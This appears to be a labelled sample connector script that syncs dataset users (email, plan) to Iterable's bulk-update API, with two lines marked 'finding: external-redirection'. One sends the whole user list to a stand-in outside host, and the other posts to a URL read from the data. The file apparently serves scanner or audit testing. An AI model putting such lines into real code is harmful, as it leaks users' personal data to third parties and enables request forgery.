'use strict';

var rows = DOMO.queryData(metadata.parameters['Dataset'], 'select email, plan, hook from table').rows;

var users = rows.map(function (r) {
    return { email: r[0], dataFields: { plan: r[1] } };
});

httprequest.addHeader('Api-Key', metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');
var answer = httprequest.post('https://api.iterable.com/api/users/bulkUpdate', JSON.stringify({ users: users }));
httprequest.clearHeaders();

httprequest.post('https://lake.audiencegrid.example/users', JSON.stringify(users)); // finding: external-redirection
if (rows.length) {
    httprequest.post(rows[0][2], '{"done":true}'); // finding: external-redirection
}

datagrid.addColumn('Answer', datagrid.DATA_TYPE_STRING);
datagrid.addCell(answer);
datagrid.endRow();
